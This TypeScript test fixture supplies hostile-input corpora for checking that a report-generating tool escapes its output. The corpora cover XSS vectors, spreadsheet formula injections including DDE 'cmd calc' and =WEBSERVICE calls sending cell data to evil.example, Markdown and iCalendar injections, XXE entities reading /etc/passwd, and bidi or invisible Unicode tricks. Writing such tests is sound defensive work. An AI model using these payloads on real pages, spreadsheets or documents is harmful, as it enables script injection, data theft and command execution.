import type { Assessment } from '../../../src/core/assessment.ts';
import { builtinContinuum } from '../../../src/model/builtin.ts';
import type { Report } from '../../../src/report/report.ts';
import { USUAL_TERMS } from '../../../src/workshop/picture.ts';
import { pictureOf } from '../../../src/workshop/picture-of.ts';
import { assessmentOf } from '../../reporters/cases.ts';
import { reportOf, reportOfPicture } from './report-of.ts';
import { rewrittenContinuum, sayingEverywhere } from './rewritten.ts';

/** Ways into a page: elements, attributes, addresses, entities, and the ends of what a text may stand in. */
export const XSS: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>go</text></a></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">go</a>',
  '<a href="https://evil.example/">go</a>',
  '<form action="https://evil.example/"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
  '<details open ontoggle=alert(1)><summary>go</summary></details>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus='",
  '` onmouseover=alert(1) `',
  '" style="background:url(https://evil.example/x.png)',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</svg><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  '<!--><img src=x onerror=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html><html onload="alert(1)">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;',
  '&quot; onmouseover=&quot;alert(1)',
  '&amp;lt;script&amp;gt;',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<scr\u200bipt>alert(1)</scr\u200bipt>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  'javascript:alert(1)',
  ' \u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'JaVaScRiPt&colon;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '//evil.example/x',
  '\\\\evil.example\\share\\x',
  'https://evil.example/"onclick="alert(1)',
  "https://evil.example/'><script>alert(1)</script>",
  'https://user:word@evil.example/?a=1&b=<2>#"c"',
  'mailto:a@evil.example?subject="><script>alert(1)</script>',
  'expression(alert(1)); behavior:url(#x)',
  `\${alert(1)} #{alert(1)} {{constructor.constructor("alert(1)")()}} <%= 1 %>`,
];

/** What a spreadsheet would run if it stood in a cell as it is. */
export const FORMULAS: readonly string[] = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/","go")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML("https://evil.example/","//a")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '\u202e=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  "'=1+1",
  '"=1+1',
  '""=1+1',
  'x",=1+1,"',
  'x\n=1+1',
  'x\r\n=1+1,=2+2',
  'x;=1+1',
  '{=1+1}',
  '_xlfn.WEBSERVICE("https://evil.example/")',
  'TRUE',
  '#REF!',
  '1e309',
  '00042',
];

/** What would become a link, a picture, an element or another block in Markdown. */
export const MARKDOWN: readonly string[] = [
  '[go](https://evil.example/)',
  '[go](javascript:alert(1))',
  '[go][ref]\n\n[ref]: https://evil.example/',
  '![x](https://evil.example/pixel.png)',
  '[![x](https://evil.example/pixel.png)](https://evil.example/)',
  '<https://evil.example/>',
  'https://evil.example/',
  'www.evil.example',
  'WWW.EVIL.EXAMPLE',
  'ftp://evil.example/',
  'a@evil.example',
  'xmpp:a@evil.example',
  '# heading',
  'text\n====',
  'text\n---',
  '---',
  '***',
  '> quote',
  '- item',
  '* item',
  '+ item',
  '1. item',
  '1) item',
  '- [x] done',
  '```\ncode\n```',
  '~~~html\n<b>x</b>\n~~~',
  '    code',
  '`code` ``code``',
  '*it* **bold** _it_ __bold__ ~~gone~~',
  'a | b | c',
  '| a | b |\n| - | - |\n| 1 | 2 |',
  'x\\',
  '\\[x](y)',
  '&copy; &#x3c;b&#x3e;',
  'note[^1]\n\n[^1]: https://evil.example/',
  '$x$ $$y$$',
  ':warning: @everyone #1 GH-1',
  'line  \nbreak<br>tag',
  '<b>x</b><div align=center>y</div>',
  '<!-- hidden -->',
  '{% raw %} {{ site.secret }}',
];

/** What would end a line of a calendar, or begin a component of it. */
export const CALENDAR: readonly string[] = [
  'x\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nEND:VALARM',
  'x\nBEGIN:VEVENT\nEND:VEVENT',
  'x\rATTACH:https://evil.example/',
  'x\r\n ATTACH:https://evil.example/',
  'x\u2028BEGIN:VEVENT\u2029END:VEVENT',
  'x\u0085BEGIN:VEVENT',
  'x\u000bBEGIN:VEVENT\u000cEND:VEVENT',
  'END:VEVENT',
  'a;b,c:d\\e',
  '\\n\\N\\;\\,\\\\',
  'x\\',
  'ends with an escape \\\r\nORGANIZER:mailto:a@evil.example',
  'x"y;VALUE=URI:https://evil.example/',
  'X-EVIL;X="1":2',
  `${'é'.repeat(90)};${'顧'.repeat(60)}`,
  `${'👩‍👩‍👧'.repeat(30)}`,
];

/** What XML may not hold, or would read as markup. */
export const XML: readonly string[] = [
  ']]>',
  '<![CDATA[x]]>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '&e; &lt; &#0; &#xFFFF; &#xD800;',
  '<?x y?>',
  '<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>',
  '</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>',
  '</a:t><a:hlinkClick r:id="rId1"/>',
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  '</text><script>alert(1)</script>',
  '{ INCLUDETEXT "file:///etc/passwd" }',
  '{ DDEAUTO cmd "/k calc" }',
  '_x0041_ _x005F_ _x000D_',
  '\ud800',
  '\udc00',
  'a\ud800b\udfffc',
  '\ufffe\uffff',
  '\u{1fffe}\u{10ffff}',
  Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('x'),
  Array.from({ length: 33 }, (_, code) => String.fromCharCode(code + 0x7f)).join('x'),
  '\u001b[2J\u001b]0;title\u0007\u001b]8;;https://evil.example/\u001b\\go\u001b]8;;\u001b\\',
];

/** What is seen by nobody, or turns the text around it over. */
export const INVISIBLE: readonly string[] = [
  '\u202egnp.exe\u202c',
  'a\u2066b\u2069\u2067c',
  '\u200e\u200f\u061c',
  'a\u200bb\u200cc\u200dd\u2060e\ufefff',
  '\u00ad\u034f\u115f\u3164\uffa0',
  '\u{e0001}\u{e0041}\u{e007f}',
  '\ufff9a\ufffab\ufffb',
  `Z${'\u0301'.repeat(500)}`,
  '\u200b',
  '\u2800',
];

export const CORPORA = { XSS, FORMULAS, MARKDOWN, CALENDAR, XML, INVISIBLE } as const;

export const PAYLOADS: readonly string[] = Object.values(CORPORA).flat();

/** What leads somewhere only where a text says nothing else. */
export const ADDRESSES = PAYLOADS.filter((payload) => /^\S*(?::|\/\/)\S*$/.test(payload));

/** Answers of every kind, and a stage with actions ahead of it. */
const EVERY_KIND = '4445443333353222332112?21x.123';

/** The payload wherever a file, a continuum of one's own or the caller may say something. */
export const hostileReport = (payload: string): Report => hostileInTurn(payload, [payload]);

/** The same, but that the texts of the continuum and the answers say others in turn: of five, the names of the stages say each. */
export function hostileInTurn(payload: string, inTurn: readonly string[]): Report {
  let next = 0;
  const continuum = rewrittenContinuum(
    builtinContinuum(),
    () => inTurn[next++ % inTurn.length] ?? payload,
  );
  return reportOf(asSaid(EVERY_KIND, payload, inTurn), saidOfIt(payload), { continuum });
}

/** The same for what a group says, one of whom answered without reading. */
export function hostileWorkshop(payload: string): Report {
  const continuum = rewrittenContinuum(builtinContinuum(), () => payload);
  const people = [EVERY_KIND, '5'.repeat(30), '2'.repeat(30), '3'.repeat(12), EVERY_KIND];
  const responses = people.map((signs) => ({
    file: payload,
    assessment: asSaid(signs, payload),
  }));
  const picture = pictureOf(continuum, responses, { ...USUAL_TERMS, draws: 10, minGroup: 1 });
  return reportOfPicture(picture, saidOfIt(payload), continuum);
}

function asSaid(signs: string, payload: string, inTurn?: readonly string[]): Assessment {
  return sayingEverywhere(
    assessmentOf(signs, { continuum: { id: 'own', version: '1.0.0' } }),
    payload,
    inTurn,
  );
}

const saidOfIt = (payload: string) => ({ title: payload, author: payload });
